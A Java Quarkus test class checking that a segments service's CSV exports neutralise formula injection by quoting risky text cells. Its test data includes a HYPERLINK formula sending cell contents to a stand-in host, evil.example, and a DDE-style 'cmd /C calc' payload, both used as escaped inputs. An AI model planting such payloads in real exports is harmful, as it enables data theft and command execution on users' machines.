package dev.segments.report;

import dev.segments.support.Api;
import dev.segments.support.EmbeddedPostgresResource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import static dev.segments.support.Api.as;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * CSV injection (docs/security.md, "CSV downloads"): every CSV the service writes (members.csv, the segment report,
 * the tenant overview, a report job's CSV file) prefixes a text cell that starts with = + - @ tab or CR with a single
 * quote, and leaves numbers, negative ones included, as they are.
 */
@QuarkusTest
@WithTestResource(EmbeddedPostgresResource.class)
class CsvInjectionTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    @Test
    void membersCsvNeutralisesFormulasAndKeepsNegativeAmounts() {
        String k = Api.newTenant();
        Api.customer(k, "c1", Map.of("name", HYPERLINK, "city", "\tTAB", "region", "-2+3",
                "country", "+cmd", "priceTier", "x", "tags", List.of("@SUM(A1:A9)"), "email", "a@example.com",
                "phone", "+74951234567"));
        Api.customer(k, "c2", Map.of("name", "plain", "priceTier", "x", "region", "\rcr"));
        as(k).body(Map.of("customerExternalId", "c1", "externalId", "refund", "occurredAt", "2025-01-01T10:00:00Z",
                "amount", "-12.50")).post("/purchases").then().statusCode(201);
        as(k).body(Map.of("key", "x", "name", "X", "rule", Map.of("field", "priceTier", "op", "eq", "value", "x")))
                .post("/segments").then().statusCode(201);

        String body = as(k).accept("text/csv").get("/segments/x/members.csv").then().statusCode(200).extract().asString();
        List<List<String>> rows = ReportTest.csv(body);
        List<String> header = rows.get(0);
        List<String> c1 = rows.get(1);
        List<String> c2 = rows.get(2);
        assertEquals("'" + HYPERLINK, c1.get(header.indexOf("name")), body);
        assertEquals("'\tTAB", c1.get(header.indexOf("city")), body);
        assertEquals("'-2+3", c1.get(header.indexOf("region")), body);
        assertEquals("'+cmd", c1.get(header.indexOf("country")), body);
        assertEquals("'@SUM(A1:A9)", c1.get(header.indexOf("tags")), body);
        assertEquals("a@example.com", c1.get(header.indexOf("email")), body);
        assertEquals("+74951234567", c1.get(header.indexOf("phone")), body); // a number: left as it is
        assertEquals("-12.5", c1.get(header.indexOf("totalSpend")).replaceAll("0+$", ""), body); // stays a number
        assertTrue(c1.get(header.indexOf("totalSpend")).startsWith("-12.5"), body);
        assertEquals("'\rcr", c2.get(header.indexOf("region")), body);
        assertEquals("plain", c2.get(header.indexOf("name")), body);
    }

    @Test
    void reportCsvsNeutraliseFormulasAndKeepNegativeFigures() throws Exception {
        String k = Api.newTenant();
        Api.customer(k, "c1", Map.of("priceTier", "x", "region", "=1+2"));
        as(k).body(Map.of("customerExternalId", "c1", "externalId", "refund", "occurredAt", "2025-01-01T10:00:00Z",
                "amount", "-12.50")).post("/purchases").then().statusCode(201);
        as(k).body(Map.of("key", "x", "name", "@SUM(A1)", "description", "-1+cmd|' /C calc'!A0",
                "rule", Map.of("field", "priceTier", "op", "eq", "value", "x"))).post("/segments").then().statusCode(201);

        List<List<String>> report = ReportTest.csv(as(k).accept("text/csv").get("/segments/x/report.csv").then()
                .statusCode(200).extract().asString());
        assertEquals("'@SUM(A1)", ReportTest.value(report, "segment", "name", ""));
        assertEquals("'-1+cmd|' /C calc'!A0", ReportTest.value(report, "segment", "description", ""));
        assertEquals("-12.5", ReportTest.value(report, "rollups", "revenue.segment", ""));
        assertTrue(report.stream().anyMatch(r -> r.get(0).equals("profile:region") && r.get(2).equals("'=1+2")),
                report.toString());

        String overview = as(k).accept("text/csv").get("/reports/segments.csv").then().statusCode(200).extract().asString();
        List<List<String>> rows = ReportTest.csv(overview);
        List<String> header = rows.get(0);
        assertEquals("'@SUM(A1)", rows.get(1).get(header.indexOf("name")), overview);
        assertEquals("'-1+cmd|' /C calc'!A0", rows.get(1).get(header.indexOf("description")), overview);
        assertEquals("-12.5", rows.get(1).get(header.indexOf("revenue")), overview);

        // a report job's CSV file is the same bytes
        String id = as(k).body(Map.of("report", "segments", "format", "csv")).post("/reports").then().statusCode(202)
                .extract().path("id");
        Instant deadline = Instant.now().plus(Duration.ofSeconds(30));
        while (!"succeeded".equals(as(k).get("/reports/" + id).then().extract().path("state"))) {
            assertTrue(Instant.now().isBefore(deadline), "report job did not finish");
            Thread.sleep(100);
        }
        assertEquals(overview, as(k).accept("text/csv").get("/reports/" + id + "/file").then().statusCode(200)
                .extract().asString());
    }
}
